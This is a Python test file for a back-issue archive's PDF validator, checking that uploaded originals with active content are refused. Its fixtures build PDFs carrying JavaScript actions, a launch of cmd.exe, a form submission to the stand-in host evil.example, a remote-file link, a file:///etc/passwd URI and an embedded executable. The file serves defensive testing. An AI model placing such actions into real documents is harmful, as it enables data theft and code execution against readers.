"""The original of a back issue goes to the public byte for byte: it must be pages to read, and nothing that acts."""

import io
import time

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from issues import originals
from issues.originals import OriginalRefused, count_pages
from tests.issues.releases import edition
from tests.make import pdf_bytes, picture_bytes


def name(words: str) -> NameObject:
    return NameObject(words)


def action(kind: str, **values: str) -> DictionaryObject:
    """An action dictionary."""
    entries = {name(f"/{key}"): TextStringObject(value) for key, value in values.items()}
    return DictionaryObject({name("/S"): name(kind), **entries})


def written(change) -> bytes:
    """A PDF of one page after a change: `change(writer, page)`."""
    writer = PdfWriter()
    page = writer.add_blank_page(210, 297)
    change(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def on_opening(kind: str, **values: str):
    """Something that is done when the file is opened."""

    def change(writer, page):
        writer.root_object[name("/OpenAction")] = writer._add_object(action(kind, **values))

    return change


def annotation(subtype: str, does: DictionaryObject | None = None):
    """A thing on the page, and what it does."""

    def change(writer, page):
        made = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name(subtype)})
        if does:
            made[name("/A")] = does
        page[name("/Annots")] = ArrayObject([writer._add_object(made)])

    return change


def chained(writer, page):
    """A harmless action with a script after it."""
    first = action("/GoTo")
    first[name("/Next")] = ArrayObject([action("/JavaScript", JS="app.alert(1)")])
    page[name("/AA")] = DictionaryObject({name("/O"): first})


def named_script(writer, page):
    """A script of the whole document."""
    names = ArrayObject([TextStringObject("a"), action("/JavaScript", JS="app.alert(1)")])
    scripts = DictionaryObject({name("/Names"): names})
    writer.root_object[name("/Names")] = DictionaryObject({name("/JavaScript"): scripts})


def form(writer, page):
    fields = DictionaryObject({name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<x/>")})
    writer.root_object[name("/AcroForm")] = fields


ACTIVE = {
    "script": (named_script, "JavaScript"),
    "script on opening": (on_opening("/JavaScript", JS="app.alert(1)"), "JavaScript"),
    "script after another action": (chained, "JavaScript"),
    "attachment": (lambda writer, page: writer.add_attachment("a.exe", b"MZ"), "đính kèm"),
    "program": (on_opening("/Launch", F="cmd.exe"), "mở chương trình"),
    "form that sends": (on_opening("/SubmitForm", F="https://evil.example/"), "gửi dữ liệu"),
    "other file": (on_opening("/GoToR", F="//evil.example/a.pdf"), "tệp khác"),
    "file on the page": (annotation("/FileAttachment"), "đính kèm"),
    "film": (annotation("/RichMedia"), "đa phương tiện"),
    "form of XML": (form, "XFA"),
    "script as a link": (annotation("/Link", action("/URI", URI=" JavaScript:alert(1)")), "trang web"),
    "file as a link": (on_opening("/URI", URI="file:///etc/passwd"), "trang web"),
}


@pytest.mark.parametrize("what", ACTIVE)
def test_a_pdf_that_acts_is_refused_in_words(what):
    change, words = ACTIVE[what]
    with pytest.raises(OriginalRefused, match=words):
        count_pages(written(change))


def test_links_bookmarks_and_metadata_are_pages_to_read():
    def change(writer, page):
        writer.add_outline_item(title="Mục I", page_number=0)
        writer.add_metadata({"/Title": "JavaScript cho người mới"})
        writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://songbien.example/tin/1"))
        writer.add_annotation(0, Link(rect=(9, 9, 18, 18), url="www.songbien.example"))

    assert count_pages(written(change)) == 1


def test_our_own_pdf_is_pages_to_read():
    from issues import pdf

    rendered = pdf.render(edition())
    assert count_pages(rendered.data) == rendered.pages


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (picture_bytes() + pdf_bytes(), "không phải PDF"),
        (b"GIF89a" + pdf_bytes(), "không phải PDF"),
        (b"<script>alert(1)</script>" + pdf_bytes(), "không phải PDF"),
        (pdf_bytes()[:200], "hỏng"),
        (b"%PDF-1.7\n" + b"9" * 10_000, "hỏng"),
        (b"", "không phải PDF"),
    ],
)
def test_files_in_disguise_and_halves_of_files_are_refused(data, words):
    with pytest.raises(OriginalRefused, match=words):
        count_pages(data)


def test_more_pages_than_any_issue_has_are_refused(monkeypatch):
    """The number is stored in 16 bits."""
    assert originals.MOST_PAGES < 2**15
    monkeypatch.setattr(originals, "MOST_PAGES", 2)
    with pytest.raises(OriginalRefused, match="hơn 2 trang"):
        count_pages(written(lambda writer, page: [writer.add_blank_page(9, 9) for _ in range(2)]))


def test_a_number_of_pages_that_is_a_lie_is_not_believed():
    def change(writer, page):
        writer.root_object["/Pages"].get_object()[name("/Count")] = NumberObject(10**12)

    assert count_pages(written(change)) == 1


def test_a_bottomless_pit_of_objects_is_left_in_time(monkeypatch):
    monkeypatch.setattr("issues.active_pdf.MOST_OBJECTS", 3000)

    def change(writer, page):
        chain = DictionaryObject()
        reference = writer._add_object(chain)
        for _ in range(4000):
            chain = DictionaryObject({name("/Next"): reference})
            reference = writer._add_object(chain)
        writer.root_object[name("/Outlines")] = reference

    start = time.process_time()
    with pytest.raises(OriginalRefused, match="quá nhiều đối tượng"):
        count_pages(written(change))
    assert time.process_time() - start < 10


def test_a_ring_of_objects_ends():
    def change(writer, page):
        ring = DictionaryObject()
        reference = writer._add_object(ring)
        assert isinstance(reference, IndirectObject)
        ring[name("/Next")] = reference
        writer.root_object[name("/Outlines")] = reference

    assert count_pages(written(change)) == 1


def test_a_file_that_is_too_large_is_refused_unread(monkeypatch):
    monkeypatch.setattr(originals, "MAX_BYTES", 1000)
    with pytest.raises(OriginalRefused, match="MB"):
        count_pages(b"%PDF-" + b"0" * 1000)
